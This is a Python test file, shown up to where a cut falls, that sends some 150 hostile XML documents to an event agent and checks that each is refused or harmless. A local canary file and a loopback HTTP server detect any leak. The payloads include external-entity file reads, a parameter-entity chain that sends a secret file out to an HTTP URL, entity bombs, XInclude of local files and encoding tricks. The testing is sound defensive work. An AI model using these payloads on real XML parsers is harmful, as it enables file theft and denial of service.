"""XML that wants the agent to read something, to swell or to misread: refused with a reason, or harmless and delivered as it came.

Every document goes to a real agent by both doors that take events, AMQP and the command sendEvent. A canary says that nothing was read: a
file whose text must turn up nowhere, on Linux also one that nobody may open, and an HTTP server that nobody may ask. The documents name
both. Schema files and filters that try the same are at the end.
"""

from __future__ import annotations

import asyncio
import codecs
import contextlib
import ctypes
import logging
import os
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from clacks.amqp import Connection, Credentials, Draft, Rejected, Terminus, connect
from clacks.common.components import AMQPEventConsumer, AMQPServiceProxy
from clacks.common.errors import ERRORS, ClacksError
from clacks.common.schema import SchemaRegistry
from clacks.common.xml import Limits
from clacks.xquery import saxon
from conftest import RunningAgent, wait_for
from hostility import numbered
from samples import EVENTS, leave, phone
from support import End, until

SECRET = "hidden-5b1e07"
XS = "http://www.w3.org/2001/XMLSchema"
NS = 'xmlns:n="u"'
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
LIMITS = Limits()

# --- the canary ----------------------------------------------------------------------------------------------------------------------

IN_OPEN = 0x20  # <sys/inotify.h>


class Canary:
    """A folder with files that must not be opened, and an HTTP server on loopback that must not be asked."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir()
        for name, text in {
            "secret.txt": SECRET,
            "secret.xml": f"<a>{SECRET}</a>",
            "secret.dtd": f'<!ENTITY x "{SECRET}"><!ATTLIST a b CDATA "{SECRET}">',
            "secret.xsd": f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="{SECRET}"/></xs:schema>',
        }.items():
            (folder / name).write_text(text)
        self.asked: list[str] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05})
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._watch = _watch(folder) if sys.platform == "linux" else None

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        asked, folder = self.asked, self.folder

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write((folder / "secret.xml").read_bytes())

            do_HEAD = do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

        return Handler

    def fill(self, text: str) -> str:
        """`text` with the canary's places in it: @FILE@ (a URL), @PATH@, @HTTP@; each is a folder."""
        places = {"@FILE@": self.folder.as_uri(), "@PATH@": str(self.folder), "@HTTP@": self.url}
        for mark, place in places.items():
            text = text.replace(mark, place)
        return text

    @property
    def opened(self) -> bool:
        """Whether somebody, in whatever process, has opened one of the files since this was last asked."""
        if self._watch is None:
            return False
        try:
            return bool(os.read(self._watch, 65536))
        except BlockingIOError:
            return False

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()
        if self._watch is not None:
            os.close(self._watch)


def _watch(folder: Path) -> int:
    """An inotify descriptor that hears of every file opened in a folder."""
    libc = ctypes.CDLL(None, use_errno=True)
    watch: int = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    added = libc.inotify_add_watch(watch, os.fsencode(folder), ctypes.c_uint32(IN_OPEN))
    if watch < 0 or added < 0:
        raise OSError(ctypes.get_errno(), "the canary cannot be watched")
    return watch


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
    made = Canary(tmp_path_factory.mktemp("canary") / "outside")
    yield made
    made.close()


def test_the_canary_sings(canary: Canary) -> None:
    """A parser that does as the documents say is noticed: without this the tests below would prove nothing."""
    naive = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    root = etree.fromstring(canary.fill('<!DOCTYPE a [<!ENTITY x SYSTEM "@FILE@/secret.txt">]><a>&x;</a>'), naive)
    assert SECRET in etree.tostring(root, encoding="unicode")
    assert canary.opened or sys.platform != "linux"
    with urllib.request.urlopen(f"{canary.url}/control") as answer:
        assert SECRET in answer.read().decode()
    assert canary.asked == ["/control"]
    canary.asked.clear()
    assert canary.opened or sys.platform != "linux"
    assert not canary.opened


# --- the documents -------------------------------------------------------------------------------------------------------------------

# By the command, of bytes that are no UTF-8: JSON has characters only, so what it is sent is half characters. UTF-16 without a mark is
# UTF-8 with NULs in it. And a string loses its declaration, so what that says of an encoding hurts nobody.
NO_TEXT = "xml-malformed"


@dataclass(frozen=True)
class Attack:
    """`make` gives the document, in which places of the canary may be named; `code` is the error it is refused with, "" for a harmless
    one that is delivered; `by_command` is the code where the command has another."""

    name: str
    make: Callable[[], str | bytes]
    code: str
    by_command: str | None = None

    def body(self, canary: Canary) -> str | bytes:
        made = self.make()
        return canary.fill(made) if isinstance(made, str) else made


def status(inside: str, attributes: str = "", root: str = "") -> str:
    """A PhoneStatus, whose Status is a string, with `inside` in it."""
    return (
        f'<Event xmlns="{EVENTS}"{root and " " + root}><PhoneStatus{attributes and " " + attributes}><CallerId>1</CallerId>'
        f"<ReceiverId>2</ReceiverId><Status>{inside}</Status></PhoneStatus></Event>"
    )


def dtd(subset: str, inside: str = "&x;", external: str = "") -> str:
    return f"<!DOCTYPE Event{external and ' ' + external} [{subset}]>" + status(inside)


def declared(encoding: str, text: str = "", version: str = "1.0") -> str:
    return f'<?xml version="{version}" encoding="{encoding}"?>{text or phone()}'


def bomb(levels: int, width: int) -> str:
    return '<!ENTITY x0 "boom">' + "".join(f'<!ENTITY x{level} "{f"&x{level - 1};" * width}">' for level in range(1, levels + 1))


HINT = f'{XSI} xsi:schemaLocation="{EVENTS} @HTTP@/x.xsd"'
EXTERNAL = '<!ENTITY x SYSTEM "@FILE@/secret.txt">'
NESTED = "<a>" * 200 + "</a>" * 200
# For what stands around, on the way through the agent too.
FULL_SIZE = LIMITS.size - 1_000

ATTACKS = tuple(
    Attack(*row)
    for row in (
        # name, the document, the code it is refused with ("": delivered), the command's code where it is another
        # --- entities and DTDs ---
        ("an entity from a file", lambda: dtd(EXTERNAL), "xml-doctype"),
        ("an entity from the network", lambda: dtd('<!ENTITY x SYSTEM "@HTTP@/entity">'), "xml-doctype"),
        ("an entity by path", lambda: dtd('<!ENTITY x SYSTEM "@PATH@/secret.txt">'), "xml-doctype"),
        ("an entity by public identifier", lambda: dtd('<!ENTITY x PUBLIC "-//X//X" "@HTTP@/public">'), "xml-doctype"),
        ("an entity that nobody uses", lambda: dtd(EXTERNAL, "busy"), "xml-doctype"),
        ("an entity in an attribute", lambda: dtd(EXTERNAL, "busy").replace("<PhoneStatus>", '<PhoneStatus a="&x;">'), "xml-doctype"),
        ("an unparsed entity", lambda: dtd('<!NOTATION n SYSTEM "@HTTP@/n"><!ENTITY x SYSTEM "@FILE@/secret.xml" NDATA n>'), "xml-doctype"),
        ("a parameter entity from a file", lambda: dtd('<!ENTITY % p SYSTEM "@FILE@/secret.dtd"> %p;'), "xml-doctype"),
        ("a parameter entity from the network", lambda: dtd('<!ENTITY % p SYSTEM "@HTTP@/p.dtd"> %p;'), "xml-doctype"),
        (
            "a parameter entity that carries a file away",
            lambda: dtd('<!ENTITY % f SYSTEM "@FILE@/secret.txt"><!ENTITY % e "<!ENTITY &#37; out SYSTEM \'@HTTP@/?%f;\'>"> %e; %out;'),
            "xml-doctype",
        ),
        ("nested entities", lambda: dtd(bomb(20, 10), "&x20;"), "xml-doctype"),
        ("nested entities in an attribute", lambda: dtd(bomb(20, 10) + "<!ATTLIST Event a CDATA '&x20;'>", "busy"), "xml-doctype"),
        ("an entity that contains itself", lambda: dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'), "xml-doctype"),
        ("one long entity, used often", lambda: dtd(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 50_000), "xml-doctype"),
        ("an external subset from a file", lambda: dtd("", "busy", 'SYSTEM "@FILE@/secret.dtd"'), "xml-doctype"),
        ("an external subset from the network", lambda: dtd("", "busy", 'PUBLIC "-//X//X" "@HTTP@/x.dtd"'), "xml-doctype"),
        ("an internal subset with defaults", lambda: dtd('<!ATTLIST PhoneStatus a CDATA "x">', "busy"), "xml-doctype"),
        ("an empty DOCTYPE", lambda: "<!DOCTYPE Event>" + phone(), "xml-doctype"),
        ("a DOCTYPE behind comments", lambda: "<!-- <Event> -->\n<?x <Event> ?>\n" + dtd(EXTERNAL), "xml-doctype"),
        ("a DOCTYPE and standalone", lambda: "<?xml version='1.0' standalone='yes'?>" + dtd(EXTERNAL), "xml-doctype"),
        ("a DOCTYPE in lower case", lambda: "<!doctype Event>" + phone(), "xml-malformed"),
        ("a DOCTYPE behind the root", lambda: phone() + "<!DOCTYPE Event>", "xml-malformed"),
        ("a DOCTYPE inside", lambda: status("<!DOCTYPE a>"), "xml-malformed"),
        ("an entity declared inside", lambda: status(EXTERNAL + "&x;"), "xml-malformed"),
        ("an entity without a declaration", lambda: status("&x;"), "xml-malformed"),
        ("an entity of HTML", lambda: status("&nbsp;"), "xml-malformed"),
        ("a parameter entity inside", lambda: status("%p;"), ""),  # outside a DTD a per cent sign is one
        # --- inclusions and hints ---
        ("XInclude of text", lambda: status('<xi:include href="@FILE@/secret.txt" parse="text"/>', root=XI), "event-invalid"),
        ("XInclude of XML", lambda: status('<xi:include href="@FILE@/secret.xml" parse="xml"/>', root=XI), "event-invalid"),
        ("XInclude from the network", lambda: status('<xi:include href="@HTTP@/include"/>', root=XI), "event-invalid"),
        (
            "XInclude with a fallback",
            lambda: status(f'<xi:include {XI} href="@HTTP@/gone"><xi:fallback>busy</xi:fallback></xi:include>'),
            "event-invalid",
        ),
        ("XInclude as the event", lambda: f'<Event xmlns="{EVENTS}"><xi:include {XI} href="@FILE@/secret.xml"/></Event>', "event-unknown"),
        ("XInclude as the root", lambda: f'<xi:include {XI} href="@FILE@/secret.xml"/>', "event-root"),
        # libxml2 knows the attributes of XMLSchema-instance (XSD 1.0 part 1, 3.2.7) everywhere, and hints are only hints.
        ("a hint at a schema", lambda: status("busy", root=f'{XSI} xsi:schemaLocation="{EVENTS} @FILE@/secret.xsd"'), ""),
        ("a hint at a schema in the network", lambda: status("busy", root=f'{XSI} xsi:schemaLocation="{EVENTS} @HTTP@/x.xsd"'), ""),
        ("a hint at another namespace", lambda: status("busy", root=f'{XSI} xsi:schemaLocation="urn:x @HTTP@/x.xsd"'), ""),
        ("a hint at no namespace", lambda: status("busy", root=f'{XSI} xsi:noNamespaceSchemaLocation="@HTTP@/x.xsd"'), ""),
        ("a hint, large and invalid", lambda: status("<a/>" * 900, root=HINT), "event-invalid"),
        (
            "a hint at the schema of the element itself",
            lambda: f'<Event xmlns="{EVENTS}"><x:secret xmlns:x="urn:x" {XSI} xsi:schemaLocation="urn:x @FILE@/secret.xsd"/></Event>',
            "event-unknown",
        ),
        ("a hint inside", lambda: status("busy", f'{XSI} xsi:schemaLocation="{EVENTS} @HTTP@/x.xsd"'), ""),
        ("a style sheet", lambda: '<?xml-stylesheet type="text/xsl" href="@HTTP@/x.xsl"?>' + phone(), ""),
        ("a style sheet from a file", lambda: '<?xml-stylesheet type="text/xsl" href="@FILE@/secret.xml"?>' + phone(), ""),
        ("a model", lambda: '<?xml-model href="@HTTP@/x.rng"?>' + phone(), ""),
        ("a catalog", lambda: '<?oasis-xml-catalog catalog="@HTTP@/catalog.xml"?>' + phone(), ""),
        ("xml:base", lambda: status("busy", 'xml:base="@HTTP@/"'), "event-invalid"),
        ("xml:base and XInclude", lambda: status(f'<xi:include {XI} xml:base="@FILE@/" href="secret.txt"/>'), "event-invalid"),
        ("a namespace that is a URL", lambda: status("busy", root='xmlns:x="@HTTP@/namespace"'), ""),
        ("an event's namespace that is a URL", lambda: f'<Event xmlns="{EVENTS}"><PhoneStatus xmlns="@HTTP@/n"/></Event>', "event-unknown"),
        ("URLs as values", lambda: status("@FILE@/secret.txt @HTTP@/value"), ""),
        # --- swelling ---
        ("deep", lambda: status(NESTED), "xml-limit"),
        ("more attributes than fit", lambda: status("<a " + numbered('a{}="" ', 150_000) + "/>"), "event-too-large"),
        ("as many attributes as fit", lambda: status("<a " + numbered('a{}="" ', 90_000) + "/>"), "xml-limit"),
        ("an attribute too many", lambda: status("<a " + numbered('a{}="" ', LIMITS.attributes + 1) + "/>"), "xml-limit"),
        ("one attribute twice", lambda: status("busy", 'a="1" a="2"'), "xml-malformed"),
        ("one attribute 90,000 times", lambda: status("<a " + 'a="" ' * 90_000 + "/>"), "xml-malformed"),
        ("one attribute by two prefixes", lambda: status('<a x:a="" y:a=""/>', root='xmlns:x="u" xmlns:y="u"'), "xml-malformed"),
        ("a name of 60,000 characters", lambda: status(f"<{'n' * 60_000}/>"), "xml-malformed"),
        ("a name of 40,000 characters", lambda: status(f"<{'n' * 40_000}/>"), "event-invalid"),
        ("a prefix of 40,000 characters", lambda: status("busy", root=f'xmlns:{"p" * 40_000}="u"'), ""),
        ("an instruction's long name", lambda: status(f"<?{'n' * 40_000}?>"), ""),
        ("a thousand and one names", lambda: status(numbered("<n{}/>", LIMITS.names + 1)), "xml-limit"),
        ("names in attributes", lambda: status(numbered('<a b{}="" c{}=""/>'.replace("c{}", "c"), LIMITS.names + 1)), "xml-limit"),
        ("60,000 prefixes", lambda: status("busy", root=numbered('xmlns:n{}="u" ', 60_000)), ""),
        ("prefixes of different namespaces", lambda: status("busy", root=numbered('xmlns:n{0}="u{0}" ', 30_000)), ""),
        ("a namespace of a megabyte", lambda: status("busy", root=f'xmlns:n="{"u" * (FULL_SIZE)}"'), ""),
        (
            "one prefix declared again on each level",
            lambda: status("".join(f'<n:a xmlns:n="u{n}">' for n in range(50)) + "</n:a>" * 50),
            "event-invalid",
        ),
        ("one prefix declared twice", lambda: status("busy", root='xmlns:n="u" xmlns:n="v"'), "xml-malformed"),
        ("a prefix without a namespace", lambda: status("busy", root='xmlns:n=""'), "xml-malformed"),
        ("xml bound to something else", lambda: status("busy", root='xmlns:xml="urn:x"'), "xml-malformed"),
        ("xmlns bound", lambda: status("busy", root='xmlns:xmlns="urn:x"'), "xml-malformed"),
        ("an undeclared prefix", lambda: status("<n:a/>"), "xml-malformed"),
        ("colons", lambda: status("<a:b:c/>", root='xmlns:a="u"'), "xml-malformed"),
        ("a text of a megabyte", lambda: status("x" * FULL_SIZE), ""),
        ("a text of 300,000 references", lambda: status("&#x41;" * 170_000), ""),
        ("a comment of a megabyte", lambda: f"<!--{'x' * (FULL_SIZE)}-->" + phone(), ""),
        ("100,000 comments in front", lambda: "<!---->" * 100_000 + phone(), ""),
        ("100,000 instructions", lambda: status("<?a?>" * 100_000), ""),
        ("200,000 sections of CDATA", lambda: status("<![CDATA[]]>" * 80_000), ""),
        # --- encodings ---
        ("UTF-7 that hides a DOCTYPE", lambda: declared("UTF-7", "+ADwAIQ-DOCTYPE a+AD4-<a/>").encode(), "xml-malformed"),
        ("UTF-7 by its mark", lambda: b"+/v8-" + phone().encode(), "xml-malformed"),
        ("EBCDIC", lambda: declared("cp037", dtd("")).encode("cp037"), "xml-malformed"),
        ("EBCDIC that is ASCII", lambda: declared("EBCDIC-CP-US").encode(), "xml-malformed", ""),
        ("UTF-16 declared as UTF-8", lambda: declared("UTF-8").encode("utf-16"), "", NO_TEXT),
        ("UTF-16 declared as UTF-8 without a mark", lambda: declared("UTF-8").encode("utf-16-le"), ""),
        ("UTF-8 declared as UTF-16", lambda: declared("UTF-16").encode(), "xml-malformed", ""),
        ("UTF-8 declared as UTF-32", lambda: declared("UTF-32").encode(), "xml-malformed", ""),
        ("a DOCTYPE in UTF-16", lambda: dtd(EXTERNAL).encode("utf-16"), "xml-doctype", NO_TEXT),
        ("a DOCTYPE in UTF-16 declared as UTF-8", lambda: declared("UTF-8", dtd(EXTERNAL)).encode("utf-16-be"), "xml-doctype"),
        ("a DOCTYPE in UTF-32", lambda: dtd(EXTERNAL).encode("utf-32"), "xml-doctype", NO_TEXT),
        ("a DOCTYPE in UTF-32 without a mark", lambda: dtd(EXTERNAL).encode("utf-32-be"), "xml-doctype"),
        ("UCS-4 in an odd order", lambda: b"\0\0<\0" + phone().encode("utf-32-be"), "xml-malformed"),
        ("a mark of UTF-8 and UTF-16 declared", lambda: codecs.BOM_UTF8 + declared("UTF-16").encode(), "xml-malformed", ""),
        ("a mark of UTF-16 and bytes of UTF-8", lambda: codecs.BOM_UTF16_LE + phone().encode() + b" ", "xml-malformed", NO_TEXT),
        ("two marks", lambda: codecs.BOM_UTF8 * 2 + phone().encode(), "xml-malformed"),
        ("half of UTF-16", lambda: phone().encode("utf-16")[:-1], "xml-malformed", NO_TEXT),
        ("an unknown encoding", lambda: declared("x-clacks").encode(), "xml-malformed", ""),
        ("an encoding that is a path", lambda: declared("../../secret").encode(), "xml-malformed", ""),
        ("a codec that is none for text", lambda: declared("punycode").encode(), "xml-malformed", ""),
        ("an encoding of 100,000 characters", lambda: declared("x" * 100_000).encode(), "xml-malformed", ""),
        ("Latin 1 declared as UTF-8", lambda: declared("UTF-8", status("\xe4")).encode("latin-1"), "xml-malformed"),
        ("UTF-8 declared as Latin 1", lambda: declared("ISO-8859-1", status("ä")).encode(), "", ""),
        ("UTF-8 declared as ASCII", lambda: declared("US-ASCII", status("ä")).encode(), "xml-malformed", ""),
        ("half a character of Shift_JIS", lambda: declared("Shift_JIS", status("")).encode() + b"\x83", "xml-malformed"),
        ("an escape of ISO-2022-JP", lambda: declared("ISO-2022-JP", status("\x1b$B<\x1b(B")).encode(), "xml-malformed"),
        ("a declaration twice", lambda: declared("UTF-8", declared("UTF-8")).encode(), "xml-malformed", ""),
        ("a declaration behind a space", lambda: " " + declared("UTF-8"), "xml-malformed", ""),
        # --- characters ---
        ("a NUL", lambda: status("\0"), "xml-malformed"),
        ("a NUL behind the root", lambda: phone() + "\0", "xml-malformed"),
        ("a NUL in a name", lambda: status("<a\0b/>"), "xml-malformed"),
        ("control characters", lambda: status("\x01\x0b\x1f"), "xml-malformed"),
        ("a reference to NUL", lambda: status("&#0;"), "xml-malformed"),
        ("a reference to a control character", lambda: status("&#x1b;"), "xml-malformed"),
        ("a reference beyond Unicode", lambda: status("&#x110000;"), "xml-malformed"),
        ("a reference with a million digits", lambda: status(f"&#{'0' * 1_000_000}65;"), ""),
        ("a reference that overflows", lambda: status("&#4294967361;"), "xml-malformed"),
        ("U+FFFE and U+FFFF", lambda: status("\ufffe\uffff"), "xml-malformed"),
        ("a lone surrogate", lambda: status("").encode().replace(b"<Status>", b"<Status>\xed\xa0\x80"), "xml-malformed"),
        ("a reference to a surrogate", lambda: status("&#xD800;"), "xml-malformed"),
        ("a pair of references to surrogates", lambda: status("&#xD83D;&#xDE00;"), "xml-malformed"),
        ("an overlong <", lambda: status("").encode().replace(b"<Status>", b"<Status>\xc0\xbca/>"), "xml-malformed"),
        ("an overlong NUL", lambda: status("").encode().replace(b"<Status>", b"<Status>\xc0\x80"), "xml-malformed"),
        ("an overlong DOCTYPE", lambda: b"\xc0\xbc!DOCTYPE a>" + phone().encode(), "xml-malformed"),
        ("six bytes of UTF-8", lambda: status("").encode().replace(b"<Status>", b"<Status>\xfc\x84\x80\x80\x80\x80"), "xml-malformed"),
        ("half a character", lambda: status("").encode().replace(b"<Status>", b"<Status>\xe2\x82"), "xml-malformed"),
        ("controls of direction", lambda: status("\u202e\u2066ysub"), ""),
        ("a full-width <", lambda: status("＜!DOCTYPE a＞"), ""),
        # --- markup ---
        ("CDATA that looks like a DOCTYPE", lambda: status(f"<![CDATA[{dtd(EXTERNAL)}]]>"), ""),
        ("CDATA in CDATA", lambda: status("<![CDATA[<![CDATA[x]]>]]>"), "xml-malformed"),
        ("CDATA without an end", lambda: status("<![CDATA["), "xml-malformed"),
        ("CDATA in front of the root", lambda: "<![CDATA[x]]>" + phone(), "xml-malformed"),
        ("CDATA around the fields", lambda: phone().replace("<CallerId>", "<![CDATA[<CallerId>]]><CallerId>"), "event-invalid"),
        ("the end of CDATA in text", lambda: status("]]>"), "xml-malformed"),
        ("a comment without an end", lambda: status("<!--"), "xml-malformed"),
        ("-- in a comment", lambda: status("<!-- a -- b -->"), "xml-malformed"),
        ("--- at the end of a comment", lambda: status("<!-- a --->"), "xml-malformed"),
        ("a comment behind the root without an end", lambda: phone() + "<!--", "xml-malformed"),
        ("a comment in a value", lambda: status("bu<!-- x -->sy"), ""),
        ("an instruction called xml", lambda: status('<?xml version="1.0"?>'), "xml-malformed"),
        ("an instruction called XmL", lambda: status("<?XmL?>"), "xml-malformed"),
        ("an instruction without an end", lambda: status("<?a"), "xml-malformed"),
        ("an instruction of PHP", lambda: "<?php readfile('@PATH@/secret.txt'); ?>" + phone(), ""),
        ("a tag without an end", lambda: phone()[:-1], "xml-malformed"),
        ("elements without an end", lambda: phone().partition("</")[0], "xml-malformed"),
        ("an attribute without an end", lambda: status("busy", 'a="')[:200], "xml-malformed"),
        ("an attribute without quotes", lambda: status("busy", "a=b"), "xml-malformed"),
        ("< in an attribute", lambda: status("busy", 'a="<"'), "xml-malformed"),
        ("crossed elements", lambda: status("<a><b></a></b>"), "xml-malformed"),
        ("two roots", lambda: phone() * 2, "xml-malformed"),
        ("two events in one", lambda: phone().replace("</Event>", phone().partition(">")[2]), "event-root"),
        ("an event in an event", lambda: f'<Event xmlns="{EVENTS}">{phone()}</Event>', "event-unknown"),
        ("XML 1.1", lambda: declared("UTF-8", version="1.1").encode(), "", ""),
        ("XML 1.1 with control characters", lambda: declared("UTF-8", status("&#1;"), "1.1").encode(), "xml-malformed"),
        ("XML 1.1 with a namespace undeclared", lambda: declared("UTF-8", status("<a xmlns:n=''/>", NS), "1.1").encode(), "xml-malformed"),
        ("XML 2.0", lambda: declared("UTF-8", version="2.0").encode(), "xml-malformed", ""),
        ("xml:id twice", lambda: status("busy", 'xml:id="a"', 'xml:id="a"'), "xml-malformed"),
        ("xml:space", lambda: status("busy", 'xml:space="preserve"'), "event-invalid"),
        ("xsi:type of another", lambda: status("busy", f'{XSI} xsi:type="UserSession"'), "event-invalid"),
        ("xsi:type of anything", lambda: status("busy", f'{XSI} xmlns:xs="{XS}" xsi:type="xs:anyType"'), "event-invalid"),
        ("xsi:type without a prefix's namespace", lambda: status("busy", f'{XSI} xsi:type="n:x"'), "event-invalid"),
        ("xsi:nil", lambda: status("", f'{XSI} xsi:nil="true"'), "event-invalid"),
        ("xsi:nil in place of a value", lambda: status("busy").replace("<Status>", f'<Status {XSI} xsi:nil="true">'), "event-invalid"),
        ("objectify's type", lambda: status("busy", 'xmlns:py="http://codespeak.net/lxml/objectify/pytype" py:pytype=""'), "event-invalid"),
    )
)  # fmt: skip


def test_there_are_many_and_no_two_are_called_the_same() -> None:
    assert len(ATTACKS) >= 150
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
    assert {attack.code for attack in ATTACKS} | {attack.by_command or "" for attack in ATTACKS} <= {*ERRORS, ""}


# --- the agent -----------------------------------------------------------------------------------------------------------------------


@dataclass
class Scene:
    """An agent, everything that it logs, and consumers whose filters are judged in the index and in the sandbox."""

    agent: RunningAgent
    proxy: AMQPServiceProxy
    logged: list[str] = field(default_factory=list)
    consumed: dict[str, list[str]] = field(default_factory=dict)


class Log(logging.Handler):
    """Every record with all that belongs to it, as text."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__(logging.DEBUG)
        self.lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{record.getMessage()} {record.__dict__}")


FILTERS = {
    "the index": f"declare namespace f='{EVENTS}'; /f:Event/*",
    "evaluation": "//*[string-length(.) >= 0]",
    # A function is not native: the full engine or elementpath, in the sandbox, parses the event again.
    "the sandbox": "let $f := function($x) { exists($x) } return $f(/*)",
}
if not saxon.available():
    FILTERS["the sandbox"] = "//*[matches(., '(x)?\\1')]"


def keep(seen: list[str], tree: Any) -> None:
    seen.append(etree.tostring(tree, encoding="unicode"))


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    names = ("clacks", "clacks.audit")
    before = {name: logging.getLogger(name).level for name in names}
    logged: list[str] = []
    handler = Log(logged)
    logging.getLogger("clacks").addHandler(handler)
    for name in names:
        logging.getLogger(name).setLevel(logging.DEBUG)
    opened: list[Any] = []
    # A state of its own accord would come between the events of the tests; and the sandbox has all the time that an engine needs to start.
    settings = {"status_interval": 86400.0, "sandbox.seconds": 20.0}
    with RunningAgent(tmp_path_factory.mktemp("attacked"), settings) as running:
        try:
            proxy = AMQPServiceProxy(running.url())
            opened.append(proxy)
            made = Scene(running, proxy, logged)
            for name, xquery in FILTERS.items():
                seen = made.consumed[name] = []
                opened.append(AMQPEventConsumer(running.url(), xquery=xquery, callback=partial(keep, seen)))
            yield made
        finally:
            for one in opened:
                one.close()
            logging.getLogger("clacks").removeHandler(handler)
            for name, level in before.items():
                logging.getLogger(name).setLevel(level)


async def dial(port: int) -> Connection:
    return await connect("127.0.0.1", port, Credentials("admin", "secret"))


MARKERS = count()


def by_amqp(scene: Scene, body: bytes) -> tuple[ClacksError | None, list[bytes]]:
    """What becomes of `body` over AMQP: the refusal, and what a subscriber to everything gets of it, byte for byte."""
    marker = leave(f"amqp-{next(MARKERS)}").encode()

    async def attempt() -> tuple[ClacksError | None, list[bytes]]:
        connection = await dial(scene.agent.port)
        receiver = await connection.attach_receiver(Terminus("org.clacks"))
        sender = await connection.attach_sender(Terminus("org.clacks"))
        receiver.handler, sender.handler = received, sent = End(), End()
        receiver.window = 10
        await until(lambda: sender.sendable, "it may send")
        for one in (body, marker):
            sender.send(Draft(one).encode())
        await until(lambda: len(sent.outcomes) == 2, "both are settled")
        await until(lambda: marker in received.bodies, "the marker has arrived")
        connection.close()
        await connection.wait_closed()
        outcome = dict(sent.outcomes)[min(number for number, _ in sent.outcomes)]
        error = ClacksError.from_json(outcome.condition.info) if isinstance(outcome, Rejected) else None
        return error, [one for one in received.bodies if one != marker]

    answer = asyncio.run(attempt())
    settled(scene, marker)
    return answer


def by_command(scene: Scene, text: str) -> ClacksError | None:
    """The same by the command."""
    error = None
    try:
        scene.proxy.sendEvent(text)
    except ClacksError as refused:
        error = refused
    marker = leave(f"command-{next(MARKERS)}")
    scene.proxy.sendEvent(marker)
    settled(scene, marker.encode())
    return error


def settled(scene: Scene, marker: bytes) -> None:
    """Every consumer has had the marker, and so everything before it."""
    text = marker.decode().partition("<Id>")[2].partition("</Id>")[0]
    for name, seen in scene.consumed.items():
        wait_for(lambda seen=seen: any(f">{text}<" in one for one in seen), f"{text} has been through {name}")  # type: ignore[misc]


def check(scene: Scene, canary: Canary, error: ClacksError | None, code: str, delivered: list[bytes]) -> None:
    found = error.code if error is not None else ""
    assert found == code, error
    if error is not None:
        assert found in ERRORS
        assert found not in ("internal", "remote", "command-failed")
        assert len(str(error)) < 2000
    problems = error.problems if error is not None else ()
    texts = [str(error), *map(str, problems), *scene.logged]
    texts += [body.decode("latin-1") for body in delivered] + [one for seen in scene.consumed.values() for one in seen]
    assert not [text for text in texts if SECRET in text]
    assert canary.asked == []
    assert not canary.opened
    assert not [line for line in scene.logged if "Traceback" in line or "failed" in line.partition(" ")[0]]
    scene.logged.clear()
    for seen in scene.consumed.values():
        seen.clear()


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_reads_nothing_and_is_refused_or_harmless(scene: Scene, canary: Canary, attack: Attack) -> None:
    made = attack.body(canary)
    body = made.encode() if isinstance(made, str) else made
    error, delivered = by_amqp(scene, body)
    assert delivered == ([body] if not attack.code else [])
    check(scene, canary, error, attack.code, delivered)
    text = made if isinstance(made, str) else made.decode("utf-8", "surrogateescape")
    error = by_command(scene, text)
    check(scene, canary, error, attack.code if attack.by_command is None else attack.by_command, [])


def test_a_million_attributes_are_not_even_taken(scene: Scene, canary: Canary) -> None:
    """Beyond what any message may have the link goes, and the agent keeps nothing (tests/test_hostile.py); it goes on for the others."""

    async def attempt() -> str:
        connection = await dial(scene.agent.port)
        sender = await connection.attach_sender(Terminus("org.clacks"))
        sender.handler = end = End()
        await until(lambda: sender.sendable, "it may send")
        sender.send(Draft(status("<a " + numbered('a{}="" ', 1_000_000) + "/>").encode()).encode())
        await until(lambda: end.ended, "the link has ended")
        connection.close()
        await connection.wait_closed()
        condition = end.ended[0][0]
        return condition.name if condition is not None else ""

    assert asyncio.run(attempt()) == "amqp:link:message-size-exceeded"
    error, delivered = by_amqp(scene, phone().encode())
    assert delivered == [phone().encode()]
    check(scene, canary, error, "", delivered)


# --- schema files --------------------------------------------------------------------------------------------------------------------

ASSERTED = 'xmlns:vc="http://www.w3.org/2007/XMLSchema-versioning" vc:minVersion="1.1"'


def xsd(inside: str = "", root: str = "", front: str = "") -> str:
    """A description of the event Probe, with `inside` in front of it."""
    return (
        f'{front}<xs:schema xmlns:xs="{XS}" xmlns:e="{EVENTS}" targetNamespace="{EVENTS}" elementFormDefault="qualified" {root}>{inside}'
        '<xs:element name="Probe"><xs:complexType><xs:sequence><xs:element name="V" type="xs:string"/></xs:sequence></xs:complexType>'
        "</xs:element></xs:schema>"
    )


def asserting(test: str) -> str:
    plain = xsd(root=ASSERTED)
    return plain.replace("</xs:sequence>", f'</xs:sequence><xs:assert test="{test}"/>')


OUTSIDE = "only files below its own folder are read"
DOCTYPE = "it has a DOCTYPE, which is refused"

SCHEMAS = {
    # name: the file, and a part of what is said of it; "" where it is harmless and in force
    "an import from the network": (xsd('<xs:import namespace="u" schemaLocation="@HTTP@/x.xsd"/>'), OUTSIDE),
